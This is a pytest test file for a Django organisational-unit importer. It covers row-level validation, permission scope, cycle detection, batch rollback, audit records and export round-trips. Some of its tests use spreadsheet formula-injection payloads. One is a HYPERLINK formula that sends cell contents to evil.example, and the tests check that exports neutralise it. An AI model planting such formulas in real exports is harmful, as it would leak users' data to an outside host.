"""Importing org units: all or nothing, every bad row named; exports round-trip and are safe to open."""

from __future__ import annotations

import csv
import io
from contextlib import contextmanager

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from luoshi.audit.models import AuditRecord
from luoshi.core.context import batch
from luoshi.core.tabular import TableError, read_table
from luoshi.orgs import services
from luoshi.orgs.models import OrgUnit

pytestmark = pytest.mark.django_db

HEADER = "code,name,type,parent_code"


def do_import(actor, data: bytes | str, filename: str = "units.csv") -> dict:
    if isinstance(data, str):
        data = data.encode("utf-8")
    rows = read_table(data, filename, services.IMPORT_COLUMNS, services.IMPORT_OPTIONAL)
    with batch("import"):
        return services.import_units(actor, rows, filename)


def xlsx(rows: list[list[object]]) -> bytes:
    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def tree_state():
    return sorted(OrgUnit.objects.values_list("code", "name", "short_name", "type", "parent_id", "path", "version"))


@contextmanager
def nothing_written():
    """The block must change no unit and write no audit record."""
    units, audits = tree_state(), AuditRecord.objects.count()
    yield
    assert AuditRecord.objects.count() == audits, "audit records were written"
    assert tree_state() == units, "units were changed"


def refused(actor, data, filename="units.csv") -> list:
    """Import ``data``, expecting a refusal that writes nothing; return the errors."""
    with nothing_written(), pytest.raises(TableError) as exc:
        do_import(actor, data, filename)
    errors = exc.value.errors
    assert errors and all(e.filename == filename for e in errors)
    return errors


def rows_of(errors) -> set:
    return {e.row for e in errors}


# Refusals ------------------------------------------------------------------------------------

def test_it_refuses_wrong_columns_naming_them(world):
    errors = refused(world.admin, "code,name,kind,parent\nX1,某单位,school,110101\n")
    assert rows_of(errors) == {1}
    message = errors[0].message
    assert "missing columns: type, parent_code" in message and "unknown columns: kind, parent" in message


def test_it_refuses_unknown_parents_naming_every_row(world):
    errors = refused(world.admin, f"{HEADER}\nX1,一,school,999999\nX2,二,school,110101\nX3,三,school,NOPE\n")
    assert rows_of(errors) == {2, 4}
    assert {e.field for e in errors} == {"parent_code"}
    assert "999999" in errors[0].message and "NOPE" in errors[1].message


def test_it_treats_a_parent_outside_the_importers_scope_as_unknown(world):
    errors = refused(world.beijing_admin, f"{HEADER}\nX1,一,school,310101\nX2,二,school,110101\n")
    assert rows_of(errors) == {2}
    assert "310101" in errors[0].message


def test_it_refuses_duplicate_codes(world):
    errors = refused(world.admin, f"{HEADER}\nX1,一,school,110101\nX2,二,school,110101\nX1,三,school,110101\nX2,四,school,110101\n")
    assert rows_of(errors) == {4, 5}
    assert "first in row 2" in errors[0].message and "first in row 3" in errors[1].message


def test_it_refuses_a_cycle_within_the_file(world):
    errors = refused(world.admin, f"{HEADER}\nX1,一,school,110101\nA,甲,other,B\nB,乙,other,A\n")
    assert rows_of(errors) == {3, 4}
    assert all("cycle" in e.message for e in errors)


def test_it_refuses_a_file_moving_a_unit_below_its_own_descendant(world):
    errors = refused(world.admin, f"{HEADER}\n110000,北京市教育委员会,province,S110101001\n")
    assert rows_of(errors) == {2}
    assert "cycle" in errors[0].message


def test_it_refuses_a_unit_as_its_own_parent(world):
    errors = refused(world.admin, f"{HEADER}\nX1,一,school,X1\n")
    assert rows_of(errors) == {2}


def test_it_refuses_an_empty_file(world):
    errors = refused(world.admin, b"")
    assert [e.message for e in errors] == ["the file is empty"]


def test_it_refuses_a_header_only_file(world):
    errors = refused(world.admin, f"{HEADER}\n")
    assert "header but no data rows" in errors[0].message


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le"])
def test_it_refuses_utf16_with_a_hint(world, encoding):
    errors = refused(world.admin, f"{HEADER}\nX1,一,school,110101\n".encode(encoding))
    assert "UTF-16" in errors[0].message and "CSV UTF-8" in errors[0].message


def test_it_refuses_binary_data(world):
    errors = refused(world.admin, bytes(range(256)) * 8)
    assert errors[0].row is None and "binary" in errors[0].message


def test_it_refuses_a_broken_xlsx(world):
    errors = refused(world.admin, b"PK\x03\x04 this is not a workbook", "units.xlsx")
    assert "not a readable .xlsx" in errors[0].message


def test_it_refuses_bad_types_and_names_every_bad_row(world):
    data = (f"{HEADER}\nX1,一,village,110101\nX2,,school,110101\nbad code!,三,school,110101\n"
            f"X4,四,school,110101\nX5,{'长' * 201},school,110101\n")
    errors = refused(world.admin, data)
    assert {(e.row, e.field) for e in errors} == {(2, "type"), (3, "name"), (4, "code"), (6, "name")}
    assert "village" in errors[0].message


def test_it_refuses_changes_to_units_outside_what_the_importer_may_change(world):
    errors = refused(world.beijing_admin, f"{HEADER}\n310101,改名,county,310000\n")
    assert rows_of(errors) == {2}


def test_it_refuses_to_change_an_ancestor_the_importer_may_only_see(world):
    errors = refused(world.beijing_admin, f"{HEADER}\nMOE,教育部（改）,ministry,\n110101,东城,county,110000\n")
    assert rows_of(errors) == {2}
    assert "MOE" in errors[0].message


def test_it_refuses_xlsx_bad_rows_naming_their_sheet_rows(world):
    data = xlsx([["code", "name", "type", "parent_code"],
                 ["X1", "一", "school", "110101"],
                 ["X2", "二", "castle", "110101"],
                 [],
                 ["X1", "重复", "school", "110101"],
                 ["X5", "五", "school", "404404"]])
    errors = refused(world.admin, data, "units.xlsx")
    assert {(e.row, e.field) for e in errors} == {(3, "type"), (5, "code"), (6, "parent_code")}


def test_it_names_each_bad_row_on_the_import_page(world, login):
    client = login("beijing_admin")
    upload = SimpleUploadedFile("units.csv", f"{HEADER}\nX1,一,school,110101\nX2,二,castle,110101\nX3,三,school,310101\n".encode())
    with nothing_written():
        response = client.post("/units/import/", {"file": upload})
    assert response.status_code == 200
    html = response.content.decode()
    assert 'data-testid="import-errors"' in html and "Nothing was imported: 2 problems found." in html
    assert "<td>3</td>" in html and "<td>4</td>" in html and "<td>2</td>" not in html


# Success -------------------------------------------------------------------------------------

def test_it_imports_xlsx_creating_parents_before_children(world):
    data = xlsx([["code", "name", "type", "parent_code", "short_name"],
                 ["S110101901", "东城区试点小学", "School", "D1", ""],       # child before its parent
                 ["D1", "东城区教育研究中心", "affiliated", "110101", "研究中心"],
                 ["110101", "北京市东城区教育委员会", "county", "110000", "东城"]])  # an update
    audits = AuditRecord.objects.count()
    result = do_import(world.admin, data, "units.xlsx")
    assert result == {"created": 2, "updated": 1, "unchanged": 0}
    d1, school = OrgUnit.objects.get(code="D1"), OrgUnit.objects.get(code="S110101901")
    assert school.parent == d1 and d1.parent.code == "110101" and school.type == "school"
    assert school.path == f"{d1.path}{school.pk}/" and school.depth == 4
    assert OrgUnit.objects.get(code="110101").short_name == "东城"
    records = AuditRecord.objects.order_by("id")[audits:]
    assert sorted((r.action, r.verb) for r in records) == [("create", "import"), ("create", "import"), ("update", "import")]
    assert len({r.batch_id for r in records}) == 1 and records[0].source == "import"


def test_it_imports_gb18030_csv_from_chinese_excel(world):
    data = f"{HEADER}\nX1,东城区第一实验小学,school,110101\n".encode("gb18030")
    assert do_import(world.beijing_admin, data)["created"] == 1
    assert OrgUnit.objects.get(code="X1").name == "东城区第一实验小学"


def test_it_lets_an_admin_import_below_their_unit(world):
    result = do_import(world.beijing_admin, f"{HEADER}\nX1,一,school,110101\nX2,二,school,X1\n")
    assert result["created"] == 2
    assert OrgUnit.objects.get(code="X2").parent.code == "X1"


# Exports -------------------------------------------------------------------------------------

@pytest.mark.parametrize("username", ["admin", "beijing_admin"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_round_trips_an_export(world, login, username, fmt):
    response = login(username).get(f"/units/export.{fmt}")
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="org_units.{fmt}"'
    with nothing_written():
        result = do_import(world.user(username), response.content, f"org_units.{fmt}")
    assert result["created"] == result["updated"] == 0
    assert result["unchanged"] > 10


def test_it_exports_only_units_in_scope(world, login):
    rows = list(csv.reader(io.StringIO(login("beijing_reporter").get("/units/export.csv").content.decode("utf-8-sig"))))
    codes = {row[0] for row in rows[1:]}
    assert {"110000", "110101", "S110108001"} <= codes
    assert not codes & {"310000", "310101", "120000", "MOE-BGT"}


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


@pytest.mark.parametrize("name", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)"])
def test_it_neutralises_formulas_in_csv_exports(world, login, name):
    services.create_unit(world.admin, code="EVIL", name=name, type="other", parent=world.unit("110101"))
    text = login("beijing_admin").get("/units/export.csv").content.decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(text)) if r[0] == "EVIL")
    assert row[1] == "'" + name


def test_it_neutralises_formulas_in_xlsx_exports(world, login):
    services.create_unit(world.admin, code="EVIL", name=FORMULA, type="other", parent=world.unit("110101"))
    content = login("beijing_admin").get("/units/export.xlsx").content
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    cell = next(row[1] for row in ws.iter_rows() if row[0].value == "EVIL")
    assert cell.data_type == "s" and cell.value == "'" + FORMULA


def test_it_round_trips_a_unit_whose_name_looks_like_a_formula(world, login):
    services.create_unit(world.admin, code="EVIL", name=FORMULA, type="other", parent=world.unit("110101"))
    exported = login("admin").get("/units/export.csv").content
    with nothing_written():
        do_import(world.admin, exported, "org_units.csv")
    assert OrgUnit.objects.get(code="EVIL").name == FORMULA


# Each check's exact answer (issue 13: cases the mutation run of orgs/services.py showed unchecked)

FULL = "code,name,type,parent_code,short_name"
TYPES = "affiliated, city, county, department, ministry, other, province, school, university"


def problems(actor, text: str) -> list[tuple]:
    """The refusal of importing ``text``, as the import page lists it: (row, field, message)."""
    return [(e.row, e.field, e.message) for e in refused(actor, text)]


def line(unit, parent_code: str | None = None, **changes) -> str:
    """``unit`` as an import row (as exported), with ``changes``."""
    values = {"code": unit.code, "name": unit.name, "type": unit.type,
              "parent_code": unit.parent.code if parent_code is None and unit.parent_id else (parent_code or ""),
              "short_name": unit.short_name, **changes}
    return ",".join(values[k] for k in ("code", "name", "type", "parent_code", "short_name"))


def test_every_refusal_of_a_row_is_worded_in_full_and_listed_by_row_then_field(world):
    errors = problems(world.admin, "\n".join([
        FULL,
        ",无代码,school,NOPE,",                       # 2: no code (and no further check of the row)
        "bad code!,坏代码,school,NOPE,",              # 3: a malformed code (likewise)
        "X1,一,school,110101,",                       # 4
        "X1,重复,school,NOPE,",                       # 5: a duplicate (likewise)
        "X2,,school,NOPE,",                           # 6: no name, and its parent is still checked
        f"X3,{'长' * 201},school,110101,",            # 7
        f"X4,{'长' * 200},school,110101,{'短' * 60}",  # 8: both at their limits: accepted
        f"X5,五,school,110101,{'短' * 61}",            # 9
        "X6,六,village,110101,",                      # 10
        "X7,七,castle,X7,{}".format("短" * 61),        # 11: own parent (not a cycle too), long short name, bad type
        "X8,八,school,X9,",                           # 12: a cycle through the file
        "X9,九,school,X8,",                           # 13
        "Y1,子,school,Y2,",                           # 14: its parent row is refused, not this one
        "Y2,父,school,NOPE3,",                        # 15
    ]) + "\n")
    assert errors == [
        (2, "code", "required"),
        (3, "code", "Use 1–32 letters, digits, '.', '_' or '-', starting with a letter or digit."),
        (5, "code", "duplicate code X1 (first in row 4)"),
        (6, "name", "required"),
        (6, "parent_code", "unknown unit NOPE (not in this file, nor visible to you)"),
        (7, "name", "longer than 200 characters"),
        (9, "short_name", "longer than 60 characters"),
        (10, "type", f"unknown type 'village'; use one of {TYPES}"),
        (11, "parent_code", "a unit cannot be its own parent"),
        (11, "short_name", "longer than 60 characters"),
        (11, "type", f"unknown type 'castle'; use one of {TYPES}"),
        (12, "parent_code", "cycle: X8 would end up below itself"),
        (13, "parent_code", "cycle: X9 would end up below itself"),
        (15, "parent_code", "unknown unit NOPE3 (not in this file, nor visible to you)"),
    ]


def test_a_type_is_read_by_its_value_or_its_label_in_english_or_chinese_in_any_case(world):
    result = do_import(world.admin, f"{HEADER}\nT1,一,SCHOOL,110101\nT2,二,学校,110101\nT3,三,Affiliated Unit,110101\n"
                                    f"T4,四,直属单位,110101\nT5,五,County,110101\n")
    assert result == {"created": 5, "updated": 0, "unchanged": 0}
    assert dict(OrgUnit.objects.filter(code__startswith="T").values_list("code", "type")) == {
        "T1": "school", "T2": "school", "T3": "affiliated", "T4": "affiliated", "T5": "county"}


def test_only_a_superuser_imports_top_level_units_and_an_admin_may_keep_their_own(world):
    moe, beijing = world.unit("MOE"), world.unit("110000")
    assert do_import(world.admin, f"{FULL}\n{line(moe)}\n") == {"created": 0, "updated": 0, "unchanged": 1}
    assert do_import(world.ministry_admin, f"{FULL}\n{line(moe)}\n") == {"created": 0, "updated": 0, "unchanged": 1}
    top = "required (only a superuser can create top-level units)"
    assert problems(world.ministry_admin, f"{FULL}\nTOP1,顶级,ministry,,\n{line(beijing, parent_code='')}\n") == [
        (2, "parent_code", top), (3, "parent_code", top)]
    assert do_import(world.admin, f"{FULL}\nTOP1,顶级,ministry,,\nTOP2,其下,school,TOP1,\n") == {
        "created": 2, "updated": 0, "unchanged": 0}
    top1, top2 = OrgUnit.objects.get(code="TOP1"), OrgUnit.objects.get(code="TOP2")
    assert (top1.parent, top1.depth, top1.path) == (None, 0, f"/{top1.pk}/")
    assert (top2.parent, top2.depth, top2.path) == (top1, 1, f"/{top1.pk}/{top2.pk}/")


def test_the_rows_after_one_that_is_passed_over_or_refused_are_still_checked(world):
    moe, dongcheng, huangpu = world.unit("MOE"), world.unit("110101"), world.unit("310101")
    errors = problems(world.beijing_admin, "\n".join([
        FULL,
        line(moe),                                    # 2: an ancestor it may only see, unchanged: passed over
        "X0,零,school,NOPE,",                         # 3
        line(huangpu),                                # 4: another province's unit, even unchanged
        "X1,一,school,NOPE,",                         # 5
        "X2,二,school,MOE,",                          # 6: a unit it may see but not add below
        line(dongcheng, parent_code="MOE"),           # 7: nor move a unit below
        "X3,三,school,NOPE,",                         # 8
    ]) + "\n")
    unknown = "unknown unit NOPE (not in this file, nor visible to you)"
    assert errors == [
        (3, "parent_code", unknown),
        (4, "code", "unit 310101 already exists outside what you may change"),
        (5, "parent_code", unknown),
        (6, "parent_code", "you may not add units under MOE"),
        (7, "parent_code", "you may not add units under MOE"),
        (8, "parent_code", unknown),
    ]
    assert problems(world.admin, f"{FULL}\nTOP1,顶级,ministry,,\nX3,三,school,NOPE,\n") == [(3, "parent_code", unknown)]


def test_an_import_without_short_names_keeps_them_and_gives_new_units_none(world):
    dongcheng = world.unit("110101")
    services.update_unit(world.admin, dongcheng, {"short_name": "东城"})
    dongcheng.refresh_from_db()
    kept = f"{dongcheng.code},{dongcheng.name},{dongcheng.type},110000"
    assert do_import(world.admin, f"{HEADER}\n{kept}\n") == {"created": 0, "updated": 0, "unchanged": 1}
    renamed = f"{dongcheng.code},东城区教委,{dongcheng.type},110000"
    assert do_import(world.admin, f"{HEADER}\n{renamed}\nN1,新,school,110101\n") == {"created": 1, "updated": 1, "unchanged": 0}
    dongcheng.refresh_from_db()
    assert (dongcheng.name, dongcheng.short_name) == ("东城区教委", "东城")
    assert OrgUnit.objects.get(code="N1").short_name == ""


def test_an_import_records_who_created_and_who_changed_each_unit_and_moves_only_what_moves(world):
    dongcheng = world.unit("110101")
    audits = AuditRecord.objects.count()
    result = do_import(world.beijing_admin, f"{FULL}\n{line(dongcheng, name='东城区教委', short_name='东城')}\n"
                                            "N1,新学校,school,110101,新校\n")
    assert result == {"created": 1, "updated": 1, "unchanged": 0}
    new = OrgUnit.objects.get(code="N1")
    records = list(AuditRecord.objects.order_by("id")[audits:])
    assert [(r.action, r.verb, r.object_id, r.actor, r.actor_username) for r in records] == [
        ("create", "import", str(new.pk), world.beijing_admin, "beijing_admin"),
        ("update", "import", str(dongcheng.pk), world.beijing_admin, "beijing_admin")]
    created, changed = records
    assert created.before is None
    assert {k: created.after[k] for k in ("code", "name", "short_name", "type", "parent", "is_active")} == {
        "code": "N1", "name": "新学校", "short_name": "新校", "type": "school", "parent": dongcheng.pk, "is_active": True}
    assert (new.path, new.depth) == (f"{dongcheng.path}{new.pk}/", dongcheng.depth + 1)
    assert (changed.before["name"], changed.after["name"]) == (dongcheng.name, "东城区教委")
    assert (changed.before["short_name"], changed.after["short_name"]) == (dongcheng.short_name, "东城")
    assert changed.after["parent"] == dongcheng.parent_id and changed.after["version"] == dongcheng.version + 1


def test_an_import_moves_units_to_the_top_below_a_top_level_unit_and_below_a_unit_it_moves(world):
    dongcheng, xicheng_school, shanghai = world.unit("110101"), world.unit("S110102001"), world.unit("310000")
    top = services.create_unit(world.admin, code="TOP1", name="顶级", type="ministry")
    result = do_import(world.admin, "\n".join([
        FULL,
        line(xicheng_school, parent_code="110101"),   # below a unit this file moves (written after it)
        line(dongcheng, parent_code="310000"),
        line(top, parent_code="MOE"),                 # a top-level unit moved below another
        line(world.unit("S310101001"), parent_code=""),   # a school moved to the top
    ]) + "\n")
    assert result == {"created": 0, "updated": 4, "unchanged": 0}
    dongcheng, school = world.fresh_unit("110101"), world.fresh_unit("S110102001")
    moe, top, lone = world.fresh_unit("MOE"), world.fresh_unit("TOP1"), world.fresh_unit("S310101001")
    assert (dongcheng.parent_id, dongcheng.path, dongcheng.depth) == (shanghai.pk, f"{shanghai.path}{dongcheng.pk}/", 2)
    assert (school.parent_id, school.path, school.depth) == (dongcheng.pk, f"{dongcheng.path}{school.pk}/", 3)
    assert (top.parent_id, top.path, top.depth) == (moe.pk, f"{moe.path}{top.pk}/", 1)
    assert (lone.parent_id, lone.path, lone.depth) == (None, f"/{lone.pk}/", 0)
    moves = AuditRecord.objects.filter(verb="move", object_id__in=[str(u.pk) for u in (dongcheng, school, top, lone)])
    assert moves.count() == 4


def test_a_unit_created_meanwhile_by_someone_else_refuses_the_whole_import_and_says_to_try_again(world, monkeypatch):
    real = OrgUnit.objects.bulk_create

    def someone_else_first(objs, *args, **kwargs):
        OrgUnit.objects.create(code="X2", name="别人先建的", type="school", path="/x/", depth=9)
        return real(objs, *args, **kwargs)

    monkeypatch.setattr(OrgUnit.objects, "bulk_create", someone_else_first)
    with pytest.raises(TableError) as caught:
        do_import(world.admin, f"{HEADER}\nX1,一,school,110101\nX2,二,school,110101\n")
    assert [(e.filename, e.row, e.field, e.message) for e in caught.value.errors] == [
        ("units.csv", None, "code", "another user created or changed the same units while the file was being imported; "
                                    "nothing was imported, please try again")]
    assert not OrgUnit.objects.filter(code="X1").exists()


@pytest.mark.django_db(transaction=True)
def test_a_batch_failing_after_others_were_written_undoes_them_newest_first(world, monkeypatch):
    """Outside a transaction (as on the import page) each batch commits on its own; when a later one
    fails, those written are undone: new units deleted, changed ones put back where and as they were,
    each with one record of who undid what."""
    from django.core.exceptions import ValidationError

    admin = world.admin
    p1 = services.create_unit(admin, code="P1", name="甲", short_name="甲短", type="school", parent=world.unit("110101"))
    p2 = services.create_unit(admin, code="P2", name="乙", type="school", parent=world.unit("110101"))
    q = services.create_unit(admin, code="Q", name="丙", type="school", parent=world.unit("110102"))
    top = services.create_unit(admin, code="TOP1", name="顶级", type="ministry")
    monkeypatch.setattr(services, "IMPORT_BATCH", 2)  # changes then go one per batch
    real, calls = OrgUnit.objects.bulk_create, []

    def another_user_moves_p2_below_q(objs, *args, **kwargs):
        calls.append([u.code for u in objs])
        if len(calls) == 1:
            services.update_unit(admin, OrgUnit.objects.get(code="P2"), {"parent": OrgUnit.objects.get(code="Q")})
        return real(objs, *args, **kwargs)

    monkeypatch.setattr(OrgUnit.objects, "bulk_create", another_user_moves_p2_below_q)
    fields = ("name", "short_name", "parent_id", "path", "depth")
    before_p1 = OrgUnit.objects.values(*fields).get(pk=p1.pk)
    before_top = OrgUnit.objects.values(*fields).get(pk=top.pk)
    last = AuditRecord.objects.order_by("id").last().pk
    with batch("import"), pytest.raises(ValidationError) as caught:
        services.import_units(admin, read_table("\n".join([
            FULL,
            "N1,新一,school,110101,",
            "N2,新二,school,N1,",
            "N3,新三,school,110101,",
            "P1,甲改,school,110102,",    # renamed and moved: written, then undone
            "TOP1,顶级,ministry,MOE,",   # a top-level unit moved below another: written, then put back at the top
            "Q,丙,school,P2,",           # P2 is now below Q: this batch fails
        ]).encode() + b"\n", "units.csv", services.IMPORT_COLUMNS, services.IMPORT_OPTIONAL), "units.csv")
    assert caught.value.messages == ["A unit cannot be moved below itself or one of its own units."]
    assert calls == [["N1", "N3"], ["N2"]]
    assert not OrgUnit.objects.filter(code__in=["N1", "N2", "N3"]).exists()
    assert OrgUnit.objects.values(*fields).get(pk=p1.pk) == before_p1
    assert OrgUnit.objects.values(*fields).get(pk=top.pk) == before_top
    assert OrgUnit.objects.get(pk=q.pk).parent_id == world.unit("110102").pk
    assert OrgUnit.objects.get(pk=p2.pk).parent_id == q.pk  # the other user's move stays
    undone = list(AuditRecord.objects.filter(pk__gt=last, verb="import undone").order_by("id"))
    created = {r.object_id: r.after for r in AuditRecord.objects.filter(pk__gt=last, verb="import", action="create")}
    assert [(r.action, r.object_id if r.action == "update" else created[r.object_id]["code"], r.actor)
            for r in undone] == [
        ("update", str(top.pk), admin), ("update", str(p1.pk), admin),
        ("delete", "N2", admin), ("delete", "N3", admin), ("delete", "N1", admin)]
    top_undone, p1_undone = undone[:2]
    moe, dongcheng, xicheng = world.unit("MOE"), world.unit("110101"), world.unit("110102")
    assert (top_undone.before["parent"], top_undone.after["parent"]) == (moe.pk, None)
    assert (p1_undone.before["parent"], p1_undone.after["parent"]) == (xicheng.pk, dongcheng.pk)
    assert (p1_undone.before["name"], p1_undone.after["name"]) == ("甲改", "甲")
    assert p1_undone.after["short_name"] == "甲短"
    for record in undone[2:]:  # a deleted new unit's record holds it as it was, nothing after
        assert (record.before["name"], record.before["parent"] is not None, record.after) == (
            created[record.object_id]["name"], True, None)
    # each unit put back has a newer version than any it had, so no copy read meanwhile is taken as current
    for record in undone[:2]:
        assert record.after["version"] == record.before["version"] + 1
        moved = AuditRecord.objects.get(pk__gt=last, verb="move", object_id=record.object_id)
        assert record.before["version"] >= moved.after["version"]
        assert OrgUnit.objects.get(pk=record.object_id).version == record.after["version"]


@pytest.mark.django_db(transaction=True)
def test_changed_units_go_five_times_fewer_to_a_batch_and_a_failing_batch_leaves_no_trace(world, monkeypatch):
    """Moves rewrite subtrees, so changed units are written in batches of a fifth of IMPORT_BATCH: with
    10, two changes share a batch, and when the second fails the first is rolled back with it (never
    written, nothing to undo); only the new units' batch, committed before, is undone."""
    from django.core.exceptions import ValidationError

    admin = world.admin
    r = services.create_unit(admin, code="R", name="丁", type="school", parent=world.unit("110101"))
    p2 = services.create_unit(admin, code="P2", name="乙", type="school", parent=world.unit("110101"))
    services.create_unit(admin, code="Q", name="丙", type="school", parent=world.unit("110102"))
    monkeypatch.setattr(services, "IMPORT_BATCH", 10)
    real = OrgUnit.objects.bulk_create

    def another_user_moves_p2_below_q(objs, *args, **kwargs):
        services.update_unit(admin, OrgUnit.objects.get(code="P2"), {"parent": OrgUnit.objects.get(code="Q")})
        return real(objs, *args, **kwargs)

    monkeypatch.setattr(OrgUnit.objects, "bulk_create", another_user_moves_p2_below_q)
    last = AuditRecord.objects.order_by("id").last().pk
    with batch("import"), pytest.raises(ValidationError):
        services.import_units(admin, read_table("\n".join([
            FULL,
            "N1,新一,school,110101,",
            "R,丁改,school,110101,",   # shares the failing change's batch
            "Q,丙,school,P2,",         # P2 is now below Q: this batch fails
        ]).encode() + b"\n", "units.csv", services.IMPORT_COLUMNS, services.IMPORT_OPTIONAL), "units.csv")
    assert OrgUnit.objects.get(pk=r.pk).name == "丁" and OrgUnit.objects.get(pk=p2.pk).parent.code == "Q"
    assert not OrgUnit.objects.filter(code="N1").exists()
    assert [(rec.action, rec.verb) for rec in AuditRecord.objects.filter(pk__gt=last, content_type__model="orgunit")
            .exclude(object_id=str(p2.pk)).order_by("id")] == [("create", "import"), ("delete", "import undone")]


def test_an_admin_adds_no_unit_below_an_ancestor_that_the_file_lists_unchanged(world):
    """An export lists the ancestors the importer may only see; listing one must not let a row add
    a unit below it (the add check was skipped for a parent listed in the file, and new units are
    written without another check: 北京's admin created a unit below 教育部)."""
    moe = world.unit("MOE")
    assert problems(world.beijing_admin, f"{FULL}\n{line(moe)}\nX2,二,school,MOE,\n") == [
        (3, "parent_code", "you may not add units under MOE")]
    assert do_import(world.ministry_admin, f"{FULL}\n{line(moe)}\nX2,二,school,MOE,\n") == {
        "created": 1, "updated": 0, "unchanged": 1}


def test_a_site_set_to_english_still_reads_the_chinese_type_labels(world, settings, monkeypatch):
    """The types are read by their labels in both languages whatever language the site is set to
    (``LUOSHI_LANGUAGE``): a language without a catalogue falls back to the site's."""
    from django.utils.translation import trans_real

    settings.LANGUAGE_CODE = "en"
    monkeypatch.setattr(trans_real, "_translations", {})  # built again for the site's language
    result = do_import(world.admin, f"{HEADER}\nT1,一,学校,110101\nT2,二,直属单位,110101\nT3,三,Affiliated Unit,110101\n")
    assert result == {"created": 3, "updated": 0, "unchanged": 0}
    assert dict(OrgUnit.objects.filter(code__startswith="T").values_list("code", "type")) == {
        "T1": "school", "T2": "affiliated", "T3": "affiliated"}


def test_a_code_too_long_is_refused_with_each_reason_in_one_message(world):
    assert problems(world.admin, f"{FULL}\n{'A' * 33},长代码,school,110101,\n{'B' * 32},刚好,school,NOPE,\n") == [
        (2, "code", "Use 1–32 letters, digits, '.', '_' or '-', starting with a letter or digit. "
                    "Ensure this value has at most 32 characters (it has 33)."),
        (3, "parent_code", "unknown unit NOPE (not in this file, nor visible to you)")]


def test_an_admin_of_a_district_passes_over_its_province_listed_unchanged_with_its_parent(world):
    """The export of a district's admin lists 北京 (which they may only see) with its parent 教育部:
    importing it back passes 北京 over as unchanged, its parent compared as it is in the database."""
    from luoshi.accounts import services as account_services

    district_admin = account_services.create_user(world.admin, username="district_admin_x", password=None)
    services.add_membership(world.admin, user=district_admin, unit=world.unit("110101"), role="admin")
    beijing = world.unit("110000")
    assert beijing.parent.code == "MOE"
    assert do_import(district_admin, f"{FULL}\n{line(beijing)}\nN1,新学校,school,110101,\n") == {
        "created": 1, "updated": 0, "unchanged": 1}
    assert problems(district_admin, f"{FULL}\n{line(beijing, parent_code='310000')}\n") == [
        (2, "code", "unit 110000 already exists outside what you may change")]


def test_a_row_below_a_cycle_of_other_rows_is_refused_too(world, endless_loops_fail):
    errors = problems(world.admin, f"{FULL}\nA1,甲,school,X8,\nX8,八,school,X9,\nX9,九,school,X8,\n")
    assert [(row, field) for row, field, _message in errors] == [(2, "parent_code"), (3, "parent_code"), (4, "parent_code")]
    assert errors[1:] == [(3, "parent_code", "cycle: X8 would end up below itself"),
                          (4, "parent_code", "cycle: X9 would end up below itself")]


def test_an_import_writes_and_records_units_level_by_level_then_in_the_order_of_the_file(world):
    xicheng, school = world.unit("110102"), world.unit("S110102001")
    last = AuditRecord.objects.order_by("id").last().pk
    assert do_import(world.admin, "\n".join([
        FULL,
        "Z2,子二,school,Z1,",                          # a new unit below a new one: the second level
        line(school, name="改名学校"),                  # a change below a unit this file changes too
        "Z1,父,school,110101,",
        "A1,甲,school,110101,",
        line(xicheng, name="西城区教委"),
    ]) + "\n") == {"created": 3, "updated": 2, "unchanged": 0}
    codes = dict(OrgUnit.objects.values_list("pk", "code"))
    written = [(r.action, codes[int(r.object_id)]) for r in AuditRecord.objects.filter(pk__gt=last).order_by("id")]
    assert written == [("create", "Z1"), ("create", "A1"), ("create", "Z2"),
                       ("update", "110102"), ("update", school.code)]
